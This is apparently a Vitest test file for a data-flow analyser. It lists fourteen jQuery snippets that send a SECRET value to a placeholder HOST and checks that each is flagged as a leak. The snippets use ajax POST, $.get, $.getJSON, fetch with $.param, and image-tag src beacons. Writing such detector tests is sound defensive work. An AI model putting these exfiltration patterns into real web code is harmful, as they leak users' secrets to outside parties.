import { describe, test } from "vitest";
import {
	type DataFlow,
	expectHarmlessOnOwnSite,
	expectHarmlessWithoutSecret,
	expectLeak,
} from "../../testing/data-flow-checks.ts";

const FLOWS: readonly DataFlow[] = [
	[
		"another name for it",
		`const query = jQuery.noConflict(true); query.ajax({ url: "HOST", type: "POST", data: { text: SECRET } });`,
	],
	["what waits for the page under another name", `jQuery.noConflict()(function ($) { $.get("HOST/" + SECRET); });`],
	["the window's", `const query = window.jQuery; query.get("HOST/" + SECRET);`],
	["$.map", `$.post("HOST", { list: $.map([SECRET], function (text) { return text + "!"; }) });`],
	["$.each", `$.each({ a: SECRET }, function (name, text) { $.get("HOST", { [name]: text }); });`],
	["$.param", `fetch("HOST/?" + $.param({ text: SECRET }));`],
	["$.trim", `$.post("HOST", $.trim(SECRET));`],
	["$.extend", `$.post("HOST", $.extend({}, { text: SECRET }));`],
	["$.getJSON", `$.getJSON("HOST", { text: SECRET });`],
	["a picture in markup", `$("body").append("<img src='HOST/" + SECRET + "'>");`],
	["a picture's attribute", `$("<img>").attr("src", "HOST/" + SECRET);`],
	["a picture's properties", `$("<img>", { src: "HOST/" + SECRET }).appendTo("body");`],
	[
		"a list that each element adds to",
		`const list = []; $("td").each(function () { list.push(SECRET); }); $.post("HOST", { list });`,
	],
	[
		"the list of what each element gives",
		`const list = $("<i>").map(function () { return SECRET; }).get(); $.post("HOST", { text: list.join() });`,
	],
];

describe("data through jQuery", () => {
	test.each(FLOWS)("%s carries a secret to a stranger", (_title, code) => expectLeak(code));
	test.each(FLOWS)("%s carries nothing when there is nothing to carry", (_title, code) =>
		expectHarmlessWithoutSecret(code),
	);
	test.each(FLOWS)("%s may carry anything on the site itself", (_title, code) => expectHarmlessOnOwnSite(code));
});
